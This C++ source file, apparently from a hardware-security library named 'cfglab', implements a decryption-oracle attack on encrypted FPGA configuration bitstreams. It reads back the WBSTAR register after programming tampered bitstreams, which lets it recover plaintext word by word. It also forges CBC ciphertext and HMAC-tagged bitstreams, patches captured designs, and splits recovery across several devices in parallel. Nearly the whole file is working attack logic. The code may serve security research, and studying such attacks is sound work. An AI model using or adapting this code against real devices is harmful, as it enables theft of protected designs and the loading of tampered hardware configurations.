#include "cfglab/attack.hpp"

#include <algorithm>
#include <thread>

#include <fmt/format.h>

#include "cfglab/error.hpp"

namespace cfglab {

void DeltaPatch::apply(EncryptedBitstream& bs) const {
  if (wordIndex < 1 || wordIndex > 4 || blockIndex > bs.blockCount) {
    throw Error(ErrorCode::BlockOutOfRange,
                fmt::format("patch position {}:{} outside the bitstream", blockIndex, wordIndex));
  }
  const std::size_t base = blockIndex == 0 ? bs.ivIndex : bs.encStart + 4 * (blockIndex - 1);
  bs.words[base + static_cast<std::size_t>(wordIndex - 1)] ^= mask;
}

Word unknownMaskFor(DeviceModel m) {
  return m == DeviceModel::Virtex6 ? ~kVirtex6WbstarMask : 0;
}

namespace {

// Header chunk block whose plaintext is known to be ipad filler, and the
// word used to check the oracle at session start.
constexpr std::size_t kCalibrationBlock = 3;
constexpr int kCalibrationWord = 4;

constexpr std::size_t kHeaderBlocks = kHeaderChunkWords / 4;
constexpr std::size_t kFooterBlocks = kFooterWords / 4;

}  // namespace

OracleSession::OracleSession(ConfigPort& port, EncryptedBitstream captured, SessionOptions opts)
    : port_(port),
      captured_(std::move(captured)),
      opts_(opts),
      unknownMask_(unknownMaskFor(opts.target)),
      rng_(opts.seed) {}

Block128 OracleSession::randomBlock() {
  Block128 b;
  for (auto& w : b.w) w = static_cast<Word>(rng_());
  return b;
}

void OracleSession::requireFullWords() const {
  if (unknownMask_ != 0) {
    throw Error(ErrorCode::MalformedInput,
                "forgery needs every plaintext bit; this target hides some WBSTAR bits");
  }
}

void OracleSession::adoptLedger(const RecoveryLedger& l) {
  ledger_ = RecoveryLedger::merge(ledger_, l);
}

Word OracleSession::query(std::span<const Word> malicious) {
  ProgramResult r = port_.program(malicious);
  ++programs_;
  if (r.status == ProgramStatus::Rejected && r.reason == RejectReason::Lockdown) {
    // The target still runs its design; it has to be reset once first.
    port_.resetManual();
    r = port_.program(malicious);
    ++programs_;
  }
  switch (r.status) {
    case ProgramStatus::HmacMismatch:
      break;
    case ProgramStatus::Success:
      port_.resetManual();
      throw Error(ErrorCode::UnexpectedSuccess, "malicious bitstream passed the tag check");
    case ProgramStatus::PowerCycled:
      throw Error(ErrorCode::OracleDefended, "device power-cycled during the malicious bitstream");
    case ProgramStatus::Rejected:
      port_.resetManual();
      if (r.reason == RejectReason::NoKeyLoaded) {
        throw Error(ErrorCode::NoKeyLoaded, "device holds no decryption key");
      }
      throw Error(ErrorCode::OracleDefended,
                  fmt::format("malicious bitstream rejected ({})", to_string(r.reason)));
  }

  static const std::vector<Word> readout = buildReadout(Reg::WBSTAR);
  port_.program(readout);
  ++programs_;
  const Word v = port_.readRegister(Reg::WBSTAR);
  port_.resetManual();
  ++queries_;
  return v & ~unknownMask_;
}

void OracleSession::calibrate() {
  if (calibrated_) return;
  const auto words = buildMalicious(captured_, kCalibrationBlock, kCalibrationWord, std::nullopt,
                                    randomBlock(), opts_.headerTemplate);
  const Word v = query(words);
  if (v != (kIpadWord & ~unknownMask_)) {
    throw Error(ErrorCode::OracleDefended,
                fmt::format("known filler word read back as 0x{:08X}", v));
  }
  calibrated_ = true;
  ledger_.record({kCalibrationBlock, kCalibrationWord, v, unknownMask_});
}

Word OracleSession::recoverWord(std::size_t t, int j) {
  if (t < 1 || t > captured_.blockCount || j < 1 || j > 4) {
    throw Error(ErrorCode::BlockOutOfRange,
                fmt::format("position {}:{} outside region of {} blocks", t, j,
                            captured_.blockCount));
  }
  if (auto e = ledger_.get(t, j)) return e->value;

  std::vector<Word> trailing;
  for (int k = j + 1; k <= 4; ++k) {
    const auto e = ledger_.get(t, k);
    if (!e) {
      throw Error(ErrorCode::OrderingViolation,
                  fmt::format("word {} of block {} needs word {} first", j, t, k));
    }
    trailing.push_back(e->value);
  }

  calibrate();
  if (auto e = ledger_.get(t, j)) return e->value;

  const auto words = buildMalicious(captured_, t, j, std::span<const Word>(trailing),
                                    randomBlock(), opts_.headerTemplate);
  const Word v = query(words);
  ledger_.record({t, j, v, unknownMask_});
  return v;
}

Block128 OracleSession::recoverBlock(std::size_t t) {
  Block128 b;
  for (int j = 4; j >= 1; --j) b.w[j - 1] = recoverWord(t, j);
  return b;
}

void OracleSession::recoverRange(std::size_t first, std::size_t last) {
  for (std::size_t t = first; t <= last; ++t) recoverBlock(t);
}

Recovery OracleSession::recoverBitstream() {
  recoverRange(1, captured_.blockCount);
  return recoveryFromLedger(ledger_, captured_.blockCount);
}

Block128 OracleSession::oracleDecryptBlock(const Block128& c, const Block128& cPrev) {
  calibrate();
  Block128 p;
  std::vector<Word> trailing;
  for (int j = 4; j >= 1; --j) {
    const auto parts = buildMaliciousPair(captured_, cPrev, c, randomBlock(), j, trailing,
                                          opts_.headerTemplate);
    p.w[j - 1] = query(parts.words);
    trailing.insert(trailing.begin(), p.w[j - 1]);
  }
  return p;
}

ForgedCipher OracleSession::forgeEncrypt(std::span<const Block128> desiredPlain) {
  if (desiredPlain.empty()) throw Error(ErrorCode::MalformedInput, "nothing to encrypt");
  requireFullWords();
  ForgedCipher out;
  const std::size_t n = desiredPlain.size();
  out.cipher.resize(n);
  out.cipher[n - 1] = randomBlock();
  for (std::size_t i = n; i-- > 0;) {
    // P_i = dec(C_i) ^ C_{i-1} for an arbitrary C_{i-1}; then
    // C'_{i-1} = P_i ^ C_{i-1} ^ P'_i makes block i decrypt to P'_i.
    const Block128 arbitrary = randomBlock();
    const Block128 p = oracleDecryptBlock(out.cipher[i], arbitrary);
    const Block128 prev = p ^ arbitrary ^ desiredPlain[i];
    if (i == 0) {
      out.iv = prev;
    } else {
      out.cipher[i - 1] = prev;
    }
  }
  return out;
}

EncryptedBitstream OracleSession::forgeBitstream(std::span<const Word> body, const HmacKey& kHmac) {
  if (body.empty() || body.size() % kChunkWords != 0) {
    throw Error(ErrorCode::MalformedInput,
                fmt::format("body of {} words is not a whole number of 16-word chunks",
                            body.size()));
  }
  const HmacEnvelope env = buildEnvelope(kHmac, computeTag(kHmac, body));
  std::vector<Word> region(env.headerChunk.begin(), env.headerChunk.end());
  region.insert(region.end(), body.begin(), body.end());
  const auto footer = env.footerWords();
  region.insert(region.end(), footer.begin(), footer.end());

  const auto forged = forgeEncrypt(wordsToBlocks(region));
  const std::size_t fabricWords =
      body.size() > kConfigHeaderWords ? body.size() - kConfigHeaderWords : 0;
  return assembleEncrypted(forged.iv, forged.cipher,
                           regionLayout(forged.cipher.size(), fabricWords));
}

EncryptedBitstream OracleSession::forgeBitstream(std::span<const Word> body) {
  HmacKey k;
  for (std::size_t i = 0; i < k.bytes.size(); i += 8) {
    const auto r = rng_();
    for (std::size_t b = 0; b < 8; ++b) k.bytes[i + b] = static_cast<std::uint8_t>(r >> (8 * b));
  }
  return forgeBitstream(body, k);
}

PartialForgery OracleSession::forgePartial(std::span<const Word> recovered,
                                           std::span<const Word> modified) {
  requireFullWords();
  const std::size_t n = captured_.encWords();
  const std::size_t blocks = captured_.blockCount;
  if (recovered.size() != n || modified.size() != n) {
    throw Error(ErrorCode::MalformedInput,
                fmt::format("plaintexts must cover the {} encrypted words", n));
  }
  const auto env = parseEnvelope(recovered.first(kHeaderChunkWords), recovered.last(kFooterWords));

  auto plainBlock = [](std::span<const Word> words, std::size_t t) {
    Block128 b;
    std::copy_n(words.begin() + 4 * (t - 1), 4, b.w.begin());
    return b;
  };

  // Body blocks are kHeaderBlocks+1 .. blocks-kFooterBlocks.
  const std::size_t bodyFirst = kHeaderBlocks + 1;
  const std::size_t bodyLast = blocks - kFooterBlocks;
  std::optional<std::size_t> first, last;
  for (std::size_t t = 1; t <= blocks; ++t) {
    if (plainBlock(recovered, t) == plainBlock(modified, t)) continue;
    if (t < bodyFirst || t > bodyLast) {
      throw Error(ErrorCode::BlockOutOfRange,
                  fmt::format("block {} lies in the HMAC envelope; only body blocks can change", t));
    }
    if (!first) first = t;
    last = t;
  }

  PartialForgery out;
  out.plaintext.assign(modified.begin(), modified.end());
  std::vector<Block128> cipher(blocks + 1);
  for (std::size_t t = 0; t <= blocks; ++t) cipher[t] = captured_.block(t);
  if (!first) {
    out.bitstream = captured_;
    return out;
  }

  const std::size_t a = *first;
  const std::size_t b = *last;
  const std::size_t u = a - 1;
  if (u < bodyFirst + kConfigHeaderWords / 4) {
    throw Error(ErrorCode::BlockOutOfRange,
                fmt::format("no fabric block before block {} to use as chain IV", a));
  }
  out.chainBlock = u;

  auto rawDecrypt = [&](const Block128& c) {
    ++out.oracleBlocks;
    return oracleDecryptBlock(c, Block128{});
  };

  // dec(C_b) is known offline: P_b ^ C_{b-1}.
  Block128 dec = plainBlock(recovered, b) ^ cipher[b - 1];
  for (std::size_t i = b; i >= a; --i) {
    cipher[i - 1] = dec ^ plainBlock(modified, i);
    if (i - 1 == u) break;
    dec = rawDecrypt(cipher[i - 1]);
  }
  // Block u now decrypts to noise; learn it so the tag can cover it.
  ++out.oracleBlocks;
  const Block128 noise = oracleDecryptBlock(cipher[u], cipher[u - 1]);
  std::copy(noise.w.begin(), noise.w.end(), out.plaintext.begin() + 4 * (u - 1));

  const std::span<const Word> body =
      std::span<const Word>(out.plaintext).subspan(kHeaderChunkWords, n - kHeaderChunkWords - kFooterWords);
  const Tag tag = computeTag(env.key, body);
  std::copy(tag.begin(), tag.end(), out.plaintext.end() - kTagWords);

  // Tag blocks: the last alignment block absorbs the chain change.
  const std::size_t tagLast = blocks;
  const std::size_t tagFirst = blocks - 1;
  const std::size_t align = blocks - 2;
  dec = plainBlock(recovered, tagLast) ^ cipher[tagLast - 1];
  cipher[tagFirst] = dec ^ plainBlock(out.plaintext, tagLast);
  dec = rawDecrypt(cipher[tagFirst]);
  cipher[align] = dec ^ plainBlock(out.plaintext, tagFirst);
  ++out.oracleBlocks;
  const Block128 alignNoise = oracleDecryptBlock(cipher[align], cipher[align - 1]);
  std::copy(alignNoise.w.begin(), alignNoise.w.end(), out.plaintext.begin() + 4 * (align - 1));

  out.bitstream = assembleEncrypted(cipher[0], std::span<const Block128>(cipher).subspan(1),
                                    captured_.layout);
  return out;
}

Recovery recoveryFromLedger(const RecoveryLedger& l, std::size_t blockCount) {
  Recovery r;
  r.words.reserve(blockCount * 4);
  r.masks.reserve(blockCount * 4);
  for (std::size_t t = 1; t <= blockCount; ++t) {
    for (int j = 1; j <= 4; ++j) {
      const auto e = l.get(t, j);
      if (!e) {
        throw Error(ErrorCode::MalformedInput,
                    fmt::format("ledger has no entry for block {} word {}", t, j));
      }
      r.words.push_back(e->value);
      r.masks.push_back(e->mask);
    }
  }
  return r;
}

RecoveryLedger recoverParallel(std::span<ConfigPort* const> ports,
                               const EncryptedBitstream& captured, SessionOptions opts,
                               std::size_t* queryTotal) {
  const std::size_t k = ports.size();
  if (k == 0) throw Error(ErrorCode::MalformedInput, "no devices to attack");
  const std::size_t blocks = captured.blockCount;
  std::vector<RecoveryLedger> ledgers(k);
  std::vector<std::exception_ptr> errors(k);
  std::vector<std::size_t> queries(k, 0);
  std::vector<std::thread> threads;
  for (std::size_t i = 0; i < k; ++i) {
    const std::size_t first = 1 + blocks * i / k;
    const std::size_t last = blocks * (i + 1) / k;
    threads.emplace_back([&, i, first, last] {
      try {
        SessionOptions o = opts;
        o.seed = opts.seed + i;
        OracleSession s(*ports[i], captured, o);
        if (first <= last) s.recoverRange(first, last);
        ledgers[i] = s.ledger();
        queries[i] = s.queryCount();
      } catch (...) {
        errors[i] = std::current_exception();
      }
    });
  }
  for (auto& t : threads) t.join();
  for (const auto& e : errors) {
    if (e) std::rethrow_exception(e);
  }
  if (queryTotal) {
    *queryTotal = 0;
    for (auto q : queries) *queryTotal += q;
  }
  RecoveryLedger merged;
  for (const auto& l : ledgers) merged = RecoveryLedger::merge(merged, l);
  return merged;
}

}  // namespace cfglab
